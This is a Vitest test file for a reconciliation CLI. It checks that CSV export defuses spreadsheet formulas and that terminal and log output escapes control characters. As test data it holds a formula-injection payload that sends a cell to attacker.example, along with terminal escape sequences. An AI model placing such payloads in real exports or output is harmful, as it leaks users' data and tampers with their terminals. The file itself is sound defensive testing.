import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { formatDeliveries } from '../../src/callbacks/callback-ops.js';
import { csvCell } from '../../src/csv-cell.js';
import { formatTrace } from '../../src/event-trace/trace-table.js';
import { createLogger } from '../../src/logger.js';
import { formatLine, prettyDestination } from '../../src/log-format.js';
import { formatRun } from '../../src/reconcile/reconcile-format.js';
import type { RunRecord } from '../../src/reconcile/reconcile-repository.js';
import type { ReconcileItem } from '../../src/reconcile/reconcile-types.js';
import { terminalSafe } from '../../src/terminal-text.js';

/** Issue 51, item 4: outputs that cannot attack their reader (a spreadsheet, a terminal). */

// eslint-disable-next-line no-control-regex -- the characters a terminal acts on
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const ESCAPES = '\u001b]0;x\u0007\u001b[2J';

const run: RunRecord = {
  id: 7,
  startedAt: new Date('2026-11-01T00:00:00Z'),
  finishedAt: new Date('2026-11-01T00:01:00Z'),
  trigger: 'cli',
  since: new Date('2026-10-31T00:00:00Z'),
  until: new Date('2026-11-01T00:00:00Z'),
  source: null,
  commandType: null,
  state: 'done',
  error: null,
  requests: 1,
  pages: 1,
  counts: { missing: 1 },
};

function item(commandId: string): ReconcileItem {
  return {
    verdict: 'missing',
    commandType: 'rental_payment',
    source: 'acme',
    commandId,
    targetId: '42',
    commandState: 'applied',
    reason: 'not on the platform',
    evidence: {},
  };
}

describe('CSV cells', () => {
  it('neutralises every cell a spreadsheet would read as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
  });

  describe('when a PMS command id is a formula', () => {
    it('writes it to `reconcile --format csv` as text', () => {
      const attack = '=HYPERLINK("https://attacker.example/?d="&C2,"details")';
      const csv = formatRun(run, [item(attack)], 'csv');
      const row = csv.split('\n')[1]!;
      expect(row).toContain(`"'=HYPERLINK(""https://attacker.example/?d=""&C2,""details"")"`);
      // No cell of the file begins with a formula character.
      for (const line of csv.trim().split('\n')) {
        for (const cell of line.match(/("([^"]|"")*"|[^,]*)/g)!.filter(Boolean)) {
          expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    });
  });
});

describe('terminal text', () => {
  it('escapes every control character, keeps the rest', () => {
    expect(terminalSafe(`a${ESCAPES}b`)).toBe('a\\e]0;x\\u0007\\e[2Jb');
    expect(terminalSafe('tenant é 日本')).toBe('tenant é 日本');
    expect(CONTROL.test(terminalSafe('\u009b2J\u0000'))).toBe(false);
  });

  describe('when an endpoint answer holds terminal escapes', () => {
    it('`callbacks list` prints them escaped', () => {
      const table = formatDeliveries([
        {
          id: '1',
          state: 'dead',
          source: `acme${ESCAPES}`,
          commandType: 'rental_payment',
          commandId: 'pay-1',
          outcomeStatus: 'applied',
          attempts: 3,
          lastError: `500 ${ESCAPES}`,
          createdAt: new Date('2026-11-01T00:00:00Z'),
        } as Parameters<typeof formatDeliveries>[0][number],
      ]);
      expect(CONTROL.test(table)).toBe(false);
    });
  });

  describe('when a trace or a reconciliation table holds terminal escapes', () => {
    it('prints them escaped', () => {
      const trace = formatTrace({
        id: `x${ESCAPES}`,
        found: true,
        steps: [
          { at: '2026-11-01T00:00:00Z', stage: 'webhook', what: `from ${ESCAPES}`, details: { a: ESCAPES } },
        ],
        ends: [ESCAPES],
      } as unknown as Parameters<typeof formatTrace>[0]);
      expect(CONTROL.test(trace)).toBe(false);
      expect(CONTROL.test(formatRun(run, [item(`pay${ESCAPES}`)], 'table'))).toBe(false);
    });
  });

  describe('when a webhook source name in the readable log holds terminal escapes', () => {
    it('escapes them in the line, and masks a tenant e-mail', () => {
      const out = new PassThrough();
      let text = '';
      out.on('data', (c: Buffer) => (text += c.toString()));
      const logger = createLogger({ level: 'info' }, prettyDestination(out));
      logger.warn({ component: 'receiver', source: ESCAPES, key: 'jane.doe@example.com' }, 'unknown source');
      expect(text).toContain('source=\\e]0;x\\u0007\\e[2J');
      expect(text).toContain('key=j•••@e•••.com');
      expect(CONTROL.test(text)).toBe(false);
      expect(formatLine(`not json ${ESCAPES}`)).toBe('not json \\e]0;x\\u0007\\e[2J');
    });
  });
});
